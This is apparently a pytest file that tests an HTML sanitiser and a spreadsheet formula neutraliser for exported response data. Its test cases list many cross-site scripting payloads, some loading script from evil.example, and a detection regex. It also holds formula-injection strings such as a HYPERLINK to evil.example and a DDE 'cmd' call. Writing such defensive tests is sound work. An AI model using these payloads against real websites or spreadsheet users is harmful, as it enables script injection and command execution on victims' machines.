"""Untrusted response HTML keeps only text markup; spreadsheet exports cannot carry formulas."""

import re

import pandas as pd
import pytest

from data_loaders.sanitise import neutralise_formula, neutralise_frame, safe_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" java\tscript:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=x><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<base href="https://evil.example/">',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<p><b><i><script>alert(1)</script></i></b>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<script>alert(1)</script>-->",
    '<a href="https://ok.example" onmouseover="alert(1)" style="x" target="_blank">ok</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
]
DANGER = re.compile(
    r"<\s*(script|iframe|svg|math|style|img|object|embed|form|input|meta|link|base|body|video|source|details|template)"
    r"|\bon[a-z]+\s*=|javascript:|vbscript:|data:|style\s*=|target\s*=|srcdoc",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_hostile_payload_survives(payload):
    cleaned = safe_html(payload)
    assert not DANGER.search(cleaned), cleaned


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ('<p onclick="alert(1)">click</p>', "<p>click</p>"),
        ('<a href="javascript:alert(1)">link</a>', '<a rel="noopener noreferrer">link</a>'),
        ("<svg onload=alert(1)><circle r=1 />hidden</svg>after", "after"),
        ('<iframe src="https://evil.example">inside</iframe>after', "after"),
        ("<style>p{}</style><p>text</p>", "<p>text</p>"),
        ("<script>alert(1)</script>safe", "safe"),
        ('<p style="color:red">styled</p>', "<p>styled</p>"),
        ('<a href="/relative">r</a>', '<a rel="noopener noreferrer">r</a>'),
    ],
)
def test_what_is_left_of_hostile_payloads(payload, expected):
    assert safe_html(payload) == expected


def test_allowed_markup_is_kept():
    html = (
        "<p>One <strong>two</strong> <em>three</em> <b>four</b> <i>five</i><br>six</p>"
        "<ul><li>a</li></ul><ol><li>b</li></ol>"
        '<a href="https://www.justiceinspectorates.gov.uk/hmicfrs/">HMICFRS</a> '
        '<a href="mailto:opcc@example.org">e-mail</a> <a href="http://example.org">web</a>'
    )
    assert safe_html(html) == (
        "<p>One <strong>two</strong> <em>three</em> <b>four</b> <i>five</i><br>six</p>"
        "<ul><li>a</li></ul><ol><li>b</li></ol>"
        '<a href="https://www.justiceinspectorates.gov.uk/hmicfrs/" rel="noopener noreferrer">HMICFRS</a> '
        '<a href="mailto:opcc@example.org" rel="noopener noreferrer">e-mail</a> '
        '<a href="http://example.org" rel="noopener noreferrer">web</a>'
    )


def test_reference_response_paragraphs_survive_with_ampersands_escaped():
    assert safe_html("<p>In D&C stalking offences are reviewed.</p> <p>We will commission an audit.</p>") == (
        "<p>In D&amp;C stalking offences are reviewed.</p> <p>We will commission an audit.</p>"
    )


def test_an_existing_rel_is_replaced():
    assert safe_html('<a href="https://x.example" rel="opener">x</a>') == (
        '<a href="https://x.example" rel="noopener noreferrer">x</a>'
    )


@pytest.mark.parametrize("empty", [None, ""])
def test_nothing_gives_nothing(empty):
    assert safe_html(empty) == ""


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("https://evil.example","click")', '\'=HYPERLINK("https://evil.example","click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("R1", "R1"),
        ("in progress", "in progress"),
        (" =1", " =1"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
        (True, True),
    ],
)
def test_formula_cells_get_a_leading_apostrophe_and_numbers_stay_numbers(value, expected):
    assert neutralise_formula(value) == expected


def test_neutralise_frame_touches_only_text():
    frame = pd.DataFrame({"reference": ["R1", "=cmd|' /C calc'!A0"], "days": [-3, 4], "=x": ["a", "b"]})
    out = neutralise_frame(frame)
    assert out["reference"].tolist() == ["R1", "'=cmd|' /C calc'!A0"]
    assert out["days"].tolist() == [-3, 4]
    assert out["days"].dtype == frame["days"].dtype
    assert list(out.columns) == ["reference", "days", "'=x"]
    assert frame["reference"].tolist() == ["R1", "=cmd|' /C calc'!A0"]  # the input is not changed
